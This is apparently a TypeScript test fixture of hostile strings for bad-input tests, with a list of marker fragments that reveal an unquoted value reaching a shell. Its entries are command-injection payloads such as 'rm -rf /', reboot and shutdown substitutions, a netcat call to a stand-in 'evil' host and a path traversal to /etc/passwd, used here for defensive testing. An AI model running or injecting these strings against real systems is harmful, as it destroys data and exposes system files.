/**
 * Hostile strings for the bad-input tests of issue 9: shell metacharacters, command
 * substitution, newlines, quotes, unicode and very long values. Every field a user can fill is
 * tried with each of them.
 */
export const HOSTILE: readonly string[] = [
  '; rm -rf /',
  '$(reboot)',
  '`reboot`',
  'a\nreboot',
  'a\rreboot',
  "x' ; touch /tmp/pwned; '",
  'x" ; touch /tmp/pwned; "',
  '&& shutdown -h now',
  '| nc evil 1',
  '../../../../etc/passwd',
  '-rf',
  '--help',
  '$IFS$9reboot',
  '${PATH}',
  'eth0\u0000reboot',
  'ꙮ🙂\u202e',
  'x'.repeat(100_000),
]

/**
 * Distinctive fragments of the hostile strings: if one of these appears in a command the host
 * ran, outside one single quoted word, the value reached a shell unquoted.
 */
export const HOSTILE_MARKERS: readonly string[] = [
  'rm -rf',
  'reboot',
  'pwned',
  'shutdown',
  'nc evil',
  '/etc/passwd',
  '$IFS',
  '${PATH}',
  'ꙮ',
]
